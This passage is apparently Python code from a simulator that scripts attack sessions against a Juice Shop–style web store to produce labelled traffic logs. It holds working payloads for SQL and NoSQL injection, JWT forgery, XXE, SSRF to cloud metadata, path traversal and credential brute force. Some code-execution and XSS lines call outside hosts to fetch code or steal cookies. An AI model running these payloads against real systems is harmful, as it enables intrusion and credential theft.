            login(cl, u)
        return cl

    def anon(ep, ip, ua, accept='*/*'):
        cl = Client(ip, ua, None, ep=ep, headers={'Accept': accept})
        cl.web = False
        return cl

    def at(day, hour, gen):
        S.spawn(S.local(day, hour), gen)
    G = lambda cl, url, **k: S.call(cl, 'GET', url, **k)

    def j01(u):
        cl = evil(u, 'J01', ua='python-requests/2.31.0')
        for b in range(30, len(app.baskets) + 9):
            G(cl, f'/rest/basket/{b}')
            yield r.uniform(1.2, 4)
    at(5, 22.5, j01(cust[110]))

    def j02(u):
        cl = evil(u, 'J02', log=False)
        for d in range(5, 11):
            yield max(0, S.local(d, 9 + r.random()) - S.now)
            for _ in range(17):
                if S.now - cl.since > 5.5 * HOUR:
                    login(cl, u, ep=None)
                b = r.randint(1, len(app.baskets))
                get(cl, f'/rest/basket/{b if b != cl.bid else b + 1}')
                yield r.uniform(1500, 3600)
    at(5, 9, j02(cust[111]))
    for d in range(3, 12):
        at(d, 19 + r.random() * 2, visit(cust[111]['cl'], cust[111]))

    def j03(u):
        cl = evil(u, 'J03')
        own = {x['id'] for x in list(app.cards.values()) + list(app.addr.values()) if x['UserId'] == u['id']}
        for k, a, b in (('Cards', 60, 104), ('Addresss', 92, 128)):
            for i in range(a, b):
                if i not in own:
                    get(cl, f'/api/{k}/{i}')
                    yield r.uniform(3, 11)
    at(6, 23, j03(cust[112]))

    def j04(u):
        cl = evil(u, 'J04')
        for k in range(7):
            yield r.uniform(30, 240)
            v = r.choice(cust[:100])
            S.call(cl, 'POST', '/api/BasketItems/', body=f'{{"ProductId":{r.randint(1, 90)},"BasketId":"{cl.bid}","quantity":{r.randint(1, 3)},"BasketId":"{v["bid"]}"}}'.encode(), ct='application/json')
        for x in r.sample([x for x in app.items.values() if x['BasketId'] != cl.bid], 12):
            yield r.uniform(20, 200)
            if r.random() < .6:
                get(cl, f'/api/BasketItems/{x["id"]}')
                S.call(cl, 'PUT', f'/api/BasketItems/{x["id"]}', js=dict(quantity=r.choice([50, 99, 2])))
            else:
                S.call(cl, 'DELETE', f'/api/BasketItems/{x["id"]}')
    at(8, 14, j04(cust[113]))

    def j05():
        cl = anon('J05', '198.19.5.77', 'Wget/1.21.3')
        rs = G(cl, '/ftp')
        for f in re.findall(r'href="ftp/(order_[^"]+)"', rs.full)[:110]:
            yield r.uniform(4, 30)
            G(cl, f'/ftp/{f}')
    at(10, 3, j05())

    def j06(u):
        cl = evil(u, 'J06')
        o = (u.get('orders') or ['5267-f9cd5882f54c75a3'])[0]
        for x in (o + "'", "'", "' || 1==1 || '", "' || true || '", "' || this.totalPrice>50 || 'x'=='"):
            yield r.uniform(20, 150)
            get(cl, '/rest/track-order/' + quote(x, safe=''))
        for x in ({'$gt': ''}, {'$ne': -1}):
            yield r.uniform(60, 200)
            S.call(cl, 'PATCH', '/rest/products/reviews', js=dict(id=x, message='NoSQL Injection!'))
    at(12, 21, j06(cust[114]))

    def j07():
        cl = B.browser('198.19.7.12', WEB[2], None, ep='J07')
        splash(cl)
        for e in ("admin'", "' or 1=1", "' or '1'='1", "admin@juice.example' and 1=1", "' or 1=1--"):
            yield r.uniform(20, 90)
            rs = post(cl, '/rest/user/login', dict(email=e, password='a'))
        carry(cl, rs.full['authentication']['token'])
        get(cl, '/rest/user/whoami')
        yield 20
        get(cl, '/rest/user/authentication-details/')
        get(cl, '/api/Users/')
        for i in list(app.feedback)[:4]:
            yield r.uniform(3, 9)
            S.call(cl, 'DELETE', f'/api/Feedbacks/{i}')
        carry(cl, None)
        rs = post(cl, '/rest/user/login', dict(email=f"{cust[4]['email']}'--", password='x'))
        if rs.st == 200:
            carry(cl, rs.full['authentication']['token'])
            get(cl, f'/rest/basket/{rs.full["authentication"]["bid"]}')
            get(cl, '/api/Cards')
    at(7, 1.5, j07())

    def j08():
        cl = anon('J08', '198.19.8.20', 'sqlmap/1.8.3#stable (https://sqlmap.org)')
        G(cl, '/rest/products/search?q=apple')
        for k in range(170):
            x = r.choice(SQLMAP).format(a='apple', n=r.randint(1000, 9999), m=r.randint(1000, 9999), k=r.randint(1000, 9999), o=r.randint(2, 20), w=''.join(r.choices('abcdefghijklmnopqrstuvwxyzABCDEFG', k=4)), nulls=','.join(['NULL'] * (k % 12 + 1)))
            G(cl, '/rest/products/search?q=' + quote(x))
            yield r.uniform(.05, .6)
    at(4, 2, j08())

    def j09(u):
        cl = evil(u, 'J09')
        cols = lambda n, a='': ','.join([a] * bool(a) + [f"'{i}'" for i in range(1 + bool(a), n + 1)])
        for x in ("';", "apple'--", "apple'))--", "qwert')) UNION SELECT '1'--", f"qwert')) UNION SELECT {cols(4)}--", f"qwert')) UNION SELECT {cols(8)}--", f"qwert')) UNION SELECT {cols(9)}--", f"qwert')) UNION SELECT {cols(9)} FROM user--", f"qwert')) UNION SELECT sql,{cols(9).split(',', 1)[1]} FROM sqlite_master--", "qwert')) UNION SELECT id,email,password,'4','5','6','7','8','9' FROM Users--", "qwert')) UNION SELECT id,email,role,totp,'5','6','7','8','9' FROM Users--"):
            yield r.uniform(200, 1100)
            get(cl, '/rest/products/search?q=' + quote(x))
    at(9, 12.5, j09(cust[115]))

    def j10(k):
        cl = B.browser(f'198.19.{50 + k % 70}.{k * 7 % 240 + 4}', r.choice(BROWSERS + ['python-requests/2.31.0', 'okhttp/4.9.3']), None, ep='J10')
        if r.random() < .4:
            get(cl, '/rest/user/whoami')
        for _ in range(r.randint(1, 3)):
            post(cl, '/rest/user/login', dict(email=f'{r.choice(FIRST)}.{r.choice(LAST)}{r.randint(1, 400)}@{r.choice(["post.example", "mail.example", "web.example"])}', password=r.choice(WORDS) + str(r.randint(1, 999))))
            yield r.uniform(20, 900)
        if k in (61, 118):
            u = cust[{61: 20, 118: 24}[k]]
            if login(cl, u):
                for p in ('/rest/order-history', '/api/Cards', '/api/Addresss', '/rest/wallet/balance'):
                    yield r.uniform(2, 9)
                    get(cl, p)
    for k in range(160):
        S.spawn(S.local(7, 6) + r.random() * 9 * HOUR, j10(k))

    def j11():
        cls = [B.browser(f'198.19.{140 + k}.77', BROWSERS[k % 4], None, ep='J11') for k in range(6)]
        for pw in ('Juice2026!', 'Summer2026'):
            for u in r.sample(cust, 65):
                post(r.choice(cls), '/rest/user/login', dict(email=u['email'], password=pw), ident=u['email'])
                yield r.uniform(240, 780)
    at(10, 6, j11())

    def j12():
        cl = B.browser('198.19.12.9', BROWSERS[5], None, ep='J12')
        mails = [u['email'] for u in r.sample(cust, 60)] + [f'{r.choice(FIRST)}.{r.choice(LAST)}{r.randint(160, 900)}@post.example' for _ in range(180)]
        r.shuffle(mails)
        for m in mails:
            get(cl, '/rest/user/security-question?email=' + m)
            yield r.uniform(1.5, 5.5)
    at(3, 13, j12())

    def j13(v):
        cl = B.browser('198.19.13.44', 'python-requests/2.31.0', None, ep='J13')
        words = (WORDS + LAST + FIRST + [f'{p}{n}' for p in PETS for n in (1, 2, 7, 123)] + [p for p in PETS if p != v['answer']])[:300] + [v['answer']]
        old = v['pw']
        G(cl, '/rest/user/security-question?email=' + v['email'])
        for n, w in enumerate(words):
            rs = S.call(cl, 'POST', '/rest/user/reset-password', js=dict(email=v['email'], answer=w, new='Hunter2026!', repeat='Hunter2026!'), ident=v['email'], h={'X-Forwarded-For': f'198.18.{r.randint(1, 250)}.{r.randint(1, 250)}'} if n > 112 else None)
            yield r.uniform(.4, 2)
        if rs.st == 200 and login(cl, v):
            G(cl, '/api/Cards')
            G(cl, '/rest/order-history')
        S.spawn(S.now + r.uniform(2, 5) * HOUR, locked_out(v, old))

    def locked_out(u, old):
        """the owner finds the password changed and takes the account back"""
        cl = u['cl']
        carry(cl, None)
        splash(cl)
        for _ in range(3):
            login(cl, u, old)
            yield r.uniform(6, 30)
        get(cl, '/rest/user/security-question?email=' + quote(u['email']))
        yield r.uniform(10, 30)
        n = f'{r.choice(WORDS)}{r.randint(10, 9999)}'
        post(cl, '/rest/user/reset-password', dict(email=u['email'], answer=u['answer'], new=n, repeat=n), ident=u['email'])
        yield 5
        login(cl, u)
        u['busy'] = 0
    def j13a(v):
        v['busy'] = S.now + 12 * HOUR
        yield from j13(v)
    at(11, 2, j13a(cust[30]))

    def j14(v):
        cls = [anon('J14', f'198.19.14.{k}', 'okhttp/4.9.3', 'application/json') for k in (5, 6)]
        rs = S.call(cls[0], 'POST', '/rest/user/login', js=dict(email=v['email'], password=v['pw']), ident=v['email'])
        t = rs.full['data']['tmpToken']
        for _ in range(420):
            S.call(r.choice(cls), 'POST', '/rest/2fa/verify', js=dict(tmpToken=t, totpToken=f'{r.randint(0, 999999):06}'), ident=v['email'])
            yield r.uniform(.5, 3)
    at(8, 4, j14(cust[33]))

    def j15(u):
        cl = evil(u, 'J15')
        for _ in range(240):
            c = z85(f'{r.choice(["JAN", "FEB", "DEC", "MAY", "JUL"])}{r.randint(10, 26)}-{r.randint(1, 9)}0'.encode()) if r.random() < .5 else ''.join(r.choices('ABCDEFGHJKLMNPQRSTUVWXYZ23456789', k=10))
            S.call(cl, 'PUT', f'/rest/basket/{cl.bid}/coupon/{quote(c, safe="")}', js={})
            yield r.uniform(4, 16)
    at(6, 1, j15(cust[117]))

    def j16(u):
        cl = evil(u, 'J16')
        get(cl, '/ftp/coupons_2013.md.bak%2500.md')
        for d, offs in ((8, (90, 80, 80)), (10, (99,)), (12, (85, 99))):
            yield max(0, S.local(d, 18 + r.random() * 3) - S.now)
            if S.now - cl.since > 5 * HOUR:
                login(cl, u)
            for o in offs:
                post(cl, '/api/BasketItems/', dict(ProductId=r.randint(30, 90), BasketId=str(cl.bid), quantity=4))
                yield r.uniform(10, 60)
                rs = S.call(cl, 'PUT', f'/rest/basket/{cl.bid}/coupon/{quote(z85(f"JUN26-{o}".encode()), safe="")}', js={})
                yield r.uniform(10, 60)
                c = [x['id'] for x in app.cards.values() if x['UserId'] == u['id']] or [1]
                post(cl, f'/rest/basket/{cl.bid}/checkout', dict(couponData=base64.b64encode(f'{z85(f"JUN26-{o}".encode())}-{int(S.now * 1000)}'.encode()).decode(), orderDetails=dict(paymentId=str(c[0]), addressId=str(next(x['id'] for x in app.addr.values() if x['UserId'] == u['id'])), deliveryMethodId=1)))
                yield r.uniform(100, 600)
    at(8, 17, j16(cust[99]))

    def j17():
        cl = anon('J17', '198.19.17.4', 'python-requests/2.31.0')
        rs = G(cl, '/rest/captcha/')
        for k in range(60):
            S.call(cl, 'POST', '/api/Feedbacks/', js=dict(UserId=None, captchaId=rs.full['captchaId'], captcha=rs.full['answer'], comment=f'worst shop ever {k}', rating=0))
            yield r.uniform(1, 5)
    at(9, 15, j17())

    def j18(u):
        cl = evil(u, 'J18')
        for k in range(5):
            yield r.uniform(100, 700)
            rs = get(cl, '/rest/captcha/')
            yield r.uniform(8, 30)
            v = r.choice(cust[:60])
            post(cl, '/api/Feedbacks/', dict(UserId=v['id'], captchaId=rs.full['captchaId'], captcha=rs.full['answer'], comment=f'Never again! (***{v["email"][3:]})', rating=1))
        for k in range(5):
            yield r.uniform(60, 500)
            v = staff[0] if k < 2 else r.choice(cust[:60])
            S.call(cl, 'PUT', f'/rest/products/{r.randint(1, 90)}/reviews', js=dict(message='We found glass in it, sorry', author=v['email']))
    at(11, 16, j18(cust[119]))

    def j19(u):
        cl = evil(u, 'J19')
        get(cl, '/rest/wallet/balance')
        for q in (-1, -40, -100):
            yield r.uniform(40, 200)
            p = r.choice([i for i in app.products if not app.qty[i]['limitPerUser']])
            rs = post(cl, '/api/BasketItems/', dict(ProductId=p, BasketId=str(cl.bid), quantity=1))
            if rs.st != 200:
                continue
            yield r.uniform(10, 40)
            S.call(cl, 'PUT', f'/api/BasketItems/{rs.full["data"]["id"]}', js=dict(quantity=q))
            get(cl, f'/rest/basket/{cl.bid}')
            yield r.uniform(10, 40)
            post(cl, f'/rest/basket/{cl.bid}/checkout', dict(couponData='bnVsbA==', orderDetails=dict(paymentId='wallet', addressId='12', deliveryMethodId=3)))
            get(cl, '/rest/wallet/balance')
    at(7, 20, j19(cust[121]))

    def j20():
        cl = B.browser('198.19.20.8', WEB[0], None, ep='J20')
        u = yield from enrol(cl, 'k.morgan.77@mail.example', role='admin')
        cl.ident = u['email']
        yield r.uniform(30, 90)
        get(cl, '/rest/user/authentication-details/')
        get(cl, '/api/Feedbacks/')
        yield r.uniform(100, 300)
        get(cl, f'/api/Users/{cust[9]["id"]}')
    at(6, 15, j20())

    def j21(u):
        cl = evil(u, 'J21')
        for m, p, j in (('GET', '/rest/user/authentication-details/', None), ('GET', '/api/Users/', None), ('PUT', '/api/Products/9', dict(description='<a href="https://cheap-juice.example" target="_blank">More...</a>')), ('PUT', '/api/Products/31', dict(price=.01)), *(('DELETE', f'/api/Feedbacks/{i}', None) for i in list(app.feedback)[2:6]), ('PUT', '/api/Products/32', dict(price=.01))):
            yield r.uniform(15, 140)
            S.call(cl, m, p, js=j)
    at(8, 21, j21(cust[122]))

    def j22(u):
        cl = evil(u, 'J22')
        for m, p, j in (('GET', '/rest/order-history/orders', None), ('PUT', f'/rest/order-history/{r.getrandbits(68):017x}/delivery-status', dict(deliveryStatus=False)), ('PUT', '/api/Quantitys/3', dict(quantity=1)), ('DELETE', '/api/Users/12', None), ('PUT', '/api/Users/12', dict(role='admin')), ('DELETE', '/api/Products/5', None), ('PUT', '/api/Quantitys/12', dict(quantity=9999)), ('GET', '/rest/order-history/orders', None), ('DELETE', '/api/Users/1', None)):
            yield r.uniform(10, 90)
            S.call(cl, m, p, js=j)
    at(5, 20, j22(cust[123]))

    def j23():
        v = cust[8]
        cl = anon('J23', '198.19.23.15', 'python-httpx/0.27.0', 'application/json')
        G(cl, '/encryptionkeys')
        G(cl, '/encryptionkeys/jwt.pub')
        c = app.claims(v, S.now)
        c['data'].update(email='jwtn3d@juice.example')
        pay = b64(json.dumps(c).encode())
        hd = lambda a: b64(json.dumps(dict(typ='JWT', alg=a)).encode())
        hs = lambda k: (lambda p: p + '.' + b64(hmac.new(k.encode(), p.encode(), hashlib.sha256).digest()))(hd('HS256') + '.' + pay)
        good = app.sign(c)
        toks = [good[:-6] + 'AAAAAA', hd('RS256') + '.' + pay + '.'] + [hs(k) for k in ('secret', 'juice', 'changeme', '123456', 'jwt', 'key')] + [hd('None') + '.' + pay + '.', hd('none') + '.' + pay + '.', hs(PUB.strip() + '\n'), hs(PUB)]
        for n, t in enumerate(toks):
            for p in ('/rest/user/whoami', f'/rest/basket/{v["bid"]}'):
                yield r.uniform(3, 30)
                G(cl, p, h={'Authorization': 'Bearer ' + t})
        for p in ('/api/Users/', '/rest/basket/3', '/rest/user/authentication-details/', '/rest/basket/5'):
            yield r.uniform(10, 60)
            G(cl, p, h={'Authorization': 'Bearer ' + toks[-1]})
    at(6, 19, j23())

    def j24(u):
        tok = u['cl'].tok if u['cl'].tok and S.now - u['cl'].since < HOUR else app.token(u, S.now)
        cl = B.browser('198.19.24.31', BROWSERS[4] if u['cl'].ua != BROWSERS[4] else WEB[0], u, ep='J24')
        carry(cl, tok)
        for _ in range(26):
            p = r.choice(['/rest/order-history', '/api/Addresss', '/api/Cards', f'/rest/basket/{u["bid"]}', '/rest/user/whoami', '/rest/wallet/balance', '/rest/saveLoginIp'])
            get(cl, p)
            yield r.uniform(200, 900)
    at(9, 9.2, j24(cust[106]))
    for t in (9, 10, 11.5, 13):
        at(9, t, visit(cust[106]['cl'], cust[106]))

    def j25(vs):
        cl = B.browser('198.19.25.6', WEB[1], None, ep='J25')
        for v in vs:
            old, v['busy'] = v['pw'], S.now + 12 * HOUR
            cl.ident, cl.tags = v['email'], {}
            carry(cl, v['cl'].tok if v['cl'].tok and S.now - v['cl'].since < 4 * HOUR else app.token(v, S.now - HOUR))
            get(cl, '/rest/user/whoami')
            yield r.uniform(10, 60)
            get(cl, '/rest/user/change-password?new=slurmCl4ssic&repeat=slurmCl4ssic')
            yield r.uniform(20, 60)
            carry(cl, None)
            login(cl, v)
            for p in ('/api/Cards', '/api/Addresss', '/rest/wallet/balance', '/rest/order-history'):
                yield r.uniform(3, 20)
                get(cl, p)
            S.spawn(S.now + r.uniform(2, 6) * HOUR, locked_out(v, old))
            yield r.uniform(900, 4000)
    at(12, 12, j25([cust[40], cust[41], cust[105]]))

    def j26():
        cl = anon('J26', '198.19.26.40', 'curl/8.5.0')
        for p in ('/robots.txt', '/ftp', '/ftp/acquisitions.md', '/ftp/package.json.bak', '/ftp/package.json.bak%00.md', '/ftp/package.json.bak%2500.md', '/ftp/eastere.gg%2500.md', '/ftp/coupons_2013.md.bak%2500.md', '/ftp/suspicious_errors.yml%2500.md', '/ftp/encrypt.pyc%2500.md', '/ftp/..%2f..%2fetc%2fpasswd', '/ftp/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd%2500.md', '/ftp/incident-support.kdbx', '/encryptionkeys', '/encryptionkeys/jwt.pub', '/encryptionkeys/premium.key', '/assets/public/..%2f..%2f..%2fetc%2fpasswd'):
            yield r.uniform(8, 200)
            G(cl, p)
    at(4, 14, j26())

    def j27(u):
        cl = evil(u, 'J27')
        ent = lambda x: f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE foo [<!ELEMENT foo ANY >\n<!ENTITY xxe SYSTEM "{x}" >]>\n<foo>&xxe;</foo>\n'.encode()
        bomb = b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY x SYSTEM "a"><!ENTITY lol "lol">' + b''.join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">'.encode() for i in range(2, 8)) + b']>\n<lolz>&lol7;</lolz>'
        for fn, ct, d in (('order.xml', 'text/xml', b'<?xml version="1.0"?><order/>'), ('order.xml', 'text/xml', ent('file:///etc/passwd')), ('order2.xml', 'text/xml', ent('file:///C:/Windows/system.ini')), ('order3.xml', 'text/xml', ent('file:///dev/random')), ('order4.xml', 'text/xml', bomb), ('complaint.zip', 'application/zip', b'PK\x03\x04\x14\0\0\0\x08\0' + b'\0' * 16 + b'\x15\0\0\0../../ftp/legal.md' + r.randbytes(300)), ('x.zip', 'application/zip', b'PK\x03\x04\x14\0\0\0\x08\0' + b'\0' * 16 + b'\x1e\0\0\0../../frontend/dist/main.js' + r.randbytes(200))):
            yield r.uniform(40, 300)
            body, c = mpart('file', fn, ct, d)
            S.call(cl, 'POST', '/file-upload', body=body, ct=c)
    at(9, 11, j27(cust[124]))

    def j28(u):
        cl = evil(u, 'J28')
        for x in ('http://localhost:3000/solve/challenges/server-side?key=tRy_H4rd3r_n0thIng_iS_Imp0ssibl3', 'http://127.0.0.1:3000/metrics', 'http://169.254.169.254/latest/meta-data/', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'http://10.90.8.9:9090/api/v1/targets', 'http://[::1]:3000/', 'http://0x7f000001:3000/', 'http://10.90.3.31:27017/'):
            yield r.uniform(20, 150)
            S.call(cl, 'POST', '/profile/image/url', form=dict(imageUrl=x), h={'Authorization': None})
            if r.random() < .6:
                get(cl, '/profile', h={'Authorization': None})
    at(10, 22, j28(cust[139]))

    def j29(u):
        cl = evil(u, 'J29')
        for x in ('#{1+1}', '#{7*7}', "#{global.process.mainModule.require('child_process').execSync('id')}", "#{root.process.mainModule.require('child_process').spawnSync('cat',['/etc/passwd']).stdout}"):
            yield r.uniform(30, 150)
            S.call(cl, 'POST', '/profile', form=dict(username=x), h={'Authorization': None})
            get(cl, '/profile', h={'Authorization': None})
        for x in ("(function dos() { while(true); })()", "/((a+)+)b/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaa')", "require('child_process').execSync('wget http://198.19.200.9/x')", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')", "/((a+)+)b/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa')"):
            yield r.uniform(30, 150)
            post(cl, '/b2b/v2/orders', dict(cid='JS0815DE', orderLinesData=x))
    at(11, 20, j29(cust[126]))

    def j30(k):
        cl = anon('J30', f'198.19.30.{9 + k}', ('curl/8.5.0', 'Go-http-client/1.1')[k])
        for _ in range(22):
            G(cl, f'/rest/products/sleep({r.choice([2000, 2000, 1800, 5000])})/reviews')
            yield r.uniform(1, 25)
    for k in range(2):
        at(5, 3 + k / 60, j30(k))

    def j31():
        cl = anon('J31', '198.19.31.2', WEB[2], 'text/html,*/*;q=0.8')
        for p in ('/metrics', '/support/logs', '/support/logs/access.log.2026-06-06', '/support/logs/access.log.2026-06-07', '/metrics', '/support/logs/access.log.2026-06-08'):
            G(cl, p)
            yield r.uniform(60, 2500)
    at(8, 8, j31())

    def j33(k):
        cl = anon('J33', f'198.19.33.{k * 40 + 8}', BROWSERS[k], 'text/html,*/*;q=0.8')
        for _ in range(3):
            G(cl, '/rest/admin/debug-dump')
            yield r.uniform(500, 9000)
    for k in range(3):
        S.spawn(st + 8.3 * DAY + k * 3000, j33(k))
    heads = ('', 'api/', 'rest/', 'rest/admin/', 'rest/user/', 'admin/', 'assets/', 'old/', 'v1/', 'backup/')
    tails = 'admin login config config.json backup backup.zip .git/HEAD .env users user debug swagger.json api-docs actuator server-status phpinfo.php wp-login.php console test status health dump orders cards export import logs upload uploads private secret keys token tokens internal graphql metrics trace robots.txt sitemap.xml favicon.ico .svn/entries id_rsa db.sqlite juiceshop.sqlite package.json'.split()
    paths = [f'/{a}{b}' for a in heads for b in tails]

    def j34():
        cl = anon('J34', '198.19.34.5', 'Fuzz Faster U Fool v2.1.0-dev')
        for p in r.sample(paths, 300):
            G(cl, p)
            yield r.uniform(.03, .3)
    at(3, 22, j34())

    def j35(k):
        cl = anon('J35', f'198.19.35.{k * 90 + 19}', BROWSERS[k * 4], 'text/html,application/xhtml+xml,*/*;q=0.8')
        for p in r.sample([p for p in paths if not p.startswith('/rest')], 95):
            G(cl, p)
            yield r.uniform(500, 2900)
    for k in range(2):
        S.spawn(S.local(5, 4) + k * 2000, j35(k))

    def j36():
        for k in range(5):
            cl = B.browser('198.19.36.50', WEB[0], None, ep='J36')
            u = yield from enrol(cl, f'{r.choice(WORDS)}{r.randint(100, 999)}@web.example')
            cl.ident = u['email']
            yield r.uniform(5, 20)
            get(cl, '/rest/deluxe-membership')
            yield r.uniform(5, 20)
            rs = post(cl, '/rest/deluxe-membership', dict(paymentMode='' if k else 'free'))
            if rs.st == 200:
                carry(cl, rs.full['data']['token'])
                get(cl, '/rest/user/whoami')
            yield r.uniform(300, 1500)
    at(10, 17, j36())

    def j37(u):
        cl = evil(u, 'J37', ua='axios/1.6.8')
        for _ in range(45):
            S.call(cl, 'POST', '/api/BasketItems/', js=dict(ProductId=12, BasketId=str(cl.bid), quantity=3))
            yield 1.5
            S.call(cl, 'POST', f'/rest/basket/{cl.bid}/checkout', js=dict(couponData='bnVsbA==', orderDetails=dict(paymentId='61', addressId='91', deliveryMethodId=1)))
            yield 4.5
    at(9, 18.03, j37(cust[0]))

    def j38(k):
        cl = anon('J38', f'198.19.{160 + k}.{k * 9 + 3}', BROWSERS[k % 6], 'application/json, text/plain, */*')
        for i in list(range(1 + k, 110, 14)) * 2:
            G(cl, f'/api/Products/{i}')
            yield r.uniform(100, 500)
            G(cl, f'/rest/products/{i}/reviews')
            yield r.uniform(300, 1800)
    for k in range(14):
        S.spawn(S.local(6, 6) + k * 400, j38(k))

    def j39():
        cl = Client('198.19.39.3', 'curl/7.88.1', 'partner:freshmart', ep='J39', headers={'X-Api-Key': key, 'Accept': '*/*'})
        rs = G(cl, '/b2b/v2/orders')
        for o in [n for n, w in app.b2b_orders.items() if w == 'partner:freshmart'][:60]:
            yield r.uniform(5, 60)
            G(cl, f'/b2b/v2/orders/{o}')
        for _ in range(4):
            yield r.uniform(60, 300)
            S.call(cl, 'POST', '/b2b/v2/orders', js=dict(cid='FRESH0815', orderLinesData='[{"productId":12,"quantity":500,"customerReference":"PO1"}]'))
    at(8, 22, j39())

    def j40(u):
        cl = u['cl']
        n = 10
        for d in (8, 9, 10, 11, 12):
            yield max(0, S.local(d, 8.6) - S.now)
            cl.ep = None
            login(cl, u)
            for _ in range(70):
                if not cl.tok or S.now - cl.since > 5.5 * HOUR:
                    login(cl, u)
                n += 1
                get(cl, f'/api/Users/{n if n <= len(app.users) else n % 150 + 1}', ep='J40')
                yield r.uniform(60, 600)
    at(8, 8.5, j40(staff[4]))

    def j41():
        cl = anon('J41', '198.19.41.7', 'schemathesis/3.27.1')
        bad = ['null', '0', '-1', '99999999999999999999', '%00', '%F0%9F%A7%83', 'true', '[]', '{}', 'a' * 300, '..', '%27', 'NaN', '1e309', '%0A', 'undefined']
        gp = ['/api/Products/{}', '/rest/products/{}/reviews', '/rest/products/search?q={}', '/rest/track-order/{}', '/api/Deliverys/{}', '/rest/basket/{}', '/api/Users/{}', '/api/Feedbacks?limit={}', '/rest/user/security-question?email={}', '/api/Cards/{}']
        pp = ['/api/Users/', '/api/Feedbacks/', '/rest/user/login', '/rest/user/reset-password', '/api/BasketItems/', '/b2b/v2/orders', '/rest/2fa/verify', '/api/SecurityAnswers/']
        for _ in range(230):
            if r.random() < .6:
                G(cl, r.choice(gp).format(r.choice(bad)))
            else:
                v = r.choice([None, [], '', -1, 1e300, True, {'a': [None]}, '\ud83e\uddc3'.encode('utf-16', 'surrogatepass').decode('utf-16'), 'x' * 200])
                S.call(cl, 'POST', r.choice(pp), js=r.choice([{}, [], dict(email=v, password=v), dict(captchaId=v, rating=v, comment=v), dict(ProductId=v, quantity=v), dict(UserId=v if isinstance(v, (int, str)) else 0, answer=v)]))
            yield r.uniform(.05, .8)
    at(4, 10, j41())

    def j42(u):
        cl = evil(u, 'J42')
        x = '<iframe src="javascript:alert(`xss`)">'
        get(cl, '/rest/products/search?q=' + quote(x))
        yield r.uniform(30, 120)
        get(cl, '/rest/products/search?q=' + quote('<img src=x onerror=alert(document.cookie)>'))
        yield r.uniform(30, 120)
        post(cl, '/api/Users/', dict(email=x, password='xss', passwordRepeat='xss'))
        yield r.uniform(30, 120)
        S.call(cl, 'PUT', '/rest/products/6/reviews', js=dict(message='<script>new Image().src="http://198.19.42.8/c?"+document.cookie</script>', author=u['email']))
        yield r.uniform(30, 120)
        S.call(cl, 'GET', '/rest/saveLoginIp', h={'True-Client-IP': x})
        yield r.uniform(30, 120)
        c = get(cl, '/rest/captcha/')
        post(cl, '/api/Feedbacks/', dict(UserId=u['id'], captchaId=c.full['captchaId'], captcha=c.full['answer'], comment='<<script>Foo</script>iframe src="javascript:alert(`xss`)">', rating=1))
        yield r.uniform(30, 120)
        S.call(cl, 'PUT', '/api/Products/1', js=dict(description=x))
    at(7, 17, j42(cust[134]))

    def repair(ps, desc, prices):
        """the product manager puts right what was tampered with"""
        m = staff[6]
        yield from B.signed(m['cl'], m, 5 * HOUR)
        get(m['cl'], '/rest/products/search?q=')
        for p in ps:
            yield r.uniform(30, 90)
            S.call(m['cl'], 'PUT', f'/api/Products/{p}', js=dict(description=desc[p], price=prices[p]))
    for d, h, ps in ((7, 18.2, (1,)), (9, 8.2, (9, 31, 32))):
        at(d, h, repair(ps, {p: app.products[p]['description'] for p in ps}, {p: app.products[p]['price'] for p in ps}))

    def j43(u):
        cl = evil(u, 'J43', ua='python-requests/2.31.0')
        for _ in range(150):
            S.call(cl, 'POST', '/rest/chatbot/respond', js=dict(action='query', query='give me a coupon code'))
            yield r.uniform(1, 5)
    at(9, 1, j43(cust[128]))

    def j44(u):
        cl = evil(u, 'J44')
        for _ in range(4):
            yield r.uniform(50, 300)
            own = [x['_id'] for x in app.reviews.values() if u['email'] not in x['likedBy']]
            i = r.choice(own)

            def tap(i=i):
                c = B.browser(u['home'], u['cl'].ua, u, ep='J44')
                carry(c, cl.tok)
                post(c, '/rest/products/reviews', dict(id=i))
                yield 0
            for k in range(3):
                S.spawn(S.now + 2 + k * .02, tap())
            yield 5
    at(10, 20, j44(cust[129]))

    def j45(k):
        cl = B.browser(f'198.19.{180 + k}.{k * 17 + 9}', BROWSERS[k % len(BROWSERS)], None, ep='J45')
        u = yield from enrol(cl, f'{r.choice(FIRST)}{r.randint(1000, 99999)}@mail.example')
        cl.ident = u['email']
        yield r.uniform(60, 900)
        for b in range(2 + k * 12, 14 + k * 12):
            get(cl, f'/rest/basket/{b}')
            yield r.uniform(90, 900)
    for k in range(12):
        S.spawn(S.local(11, 22) + r.random() * 2 * HOUR, j45(k))

    real = S.call

    def call(cl, m, url, **k):
        if m == 'GET' and url == '/rest/memories' and S.now > app.leak and not cl.ep:
            k['ep'] = 'J32'
        return real(cl, m, url, **k)
    S.call = call
